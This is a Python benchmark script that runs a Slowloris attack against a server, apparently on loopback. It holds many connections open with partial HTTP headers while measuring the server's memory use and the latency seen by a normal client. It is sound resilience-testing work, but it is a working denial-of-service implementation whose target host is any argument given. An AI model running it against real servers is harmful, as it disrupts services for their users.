"""Slowloris against one server, loopback only (bench/slowloris.sh runs it).

    slowloris.py HOST PORT N SECONDS INTERVAL PIDS

Holds N connections to HOST:PORT, each sending a partial request head and then one more header
line every INTERVAL seconds, never the blank line, for SECONDS; meanwhile a normal client sends
a GET on a new connection every 100 ms. Reads the server's resident memory (the processes in
PIDS, comma separated) before the connections open and while they are held. Prints
`open=N rss_before_kib=A rss_held_kib=B per_conn_kib=C normal_p50_ms=X normal_max_ms=Y
normal_failed=Z`.
"""

import asyncio
import sys
import time


async def hold(host, port, interval, stop):
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        return False
    writer.write(b"GET /bench/hello HTTP/1.1\r\nHost: bench\r\n")
    try:
        await writer.drain()
        while not stop.is_set():
            try:
                await asyncio.wait_for(stop.wait(), interval)
            except asyncio.TimeoutError:
                writer.write(b"X-Slow: 1\r\n")
                await writer.drain()
    except (ConnectionError, OSError):
        return False
    finally:
        writer.close()
    return True


async def normal(host, port, stop, samples):
    failed = 0
    while not stop.is_set():
        started = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 5)
            writer.write(b"GET /bench/hello HTTP/1.1\r\nHost: bench\r\nConnection: close\r\n\r\n")
            await writer.drain()
            data = await asyncio.wait_for(reader.read(4096), 5)
            writer.close()
            if data.startswith(b"HTTP/1.1 200"):
                samples.append((time.monotonic() - started) * 1000)
            else:
                failed += 1
        except (OSError, asyncio.TimeoutError):
            failed += 1
        await asyncio.sleep(0.1)
    return failed


def rss_kib(pids):
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        total += int(line.split()[1])
        except OSError:
            pass
    return total


async def main():
    host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    seconds, interval = float(sys.argv[4]), float(sys.argv[5])
    pids = [int(p) for p in sys.argv[6].split(",") if p]
    before = rss_kib(pids)
    stop = asyncio.Event()
    holders = []
    for i in range(n):
        holders.append(asyncio.create_task(hold(host, port, interval, stop)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)
    await asyncio.sleep(2)
    samples = []
    measuring = asyncio.create_task(normal(host, port, stop, samples))
    await asyncio.sleep(seconds)
    held = rss_kib(pids)
    stop.set()
    failed = await measuring
    opened = sum(await asyncio.gather(*holders))
    samples.sort()
    p50 = samples[len(samples) // 2] if samples else 0
    per = (held - before) / opened if opened else 0
    print(
        f"open={opened} rss_before_kib={before} rss_held_kib={held} per_conn_kib={per:.1f} "
        f"normal_p50_ms={p50:.1f} normal_max_ms={max(samples or [0]):.1f} normal_failed={failed}",
        flush=True,
    )


asyncio.run(main())
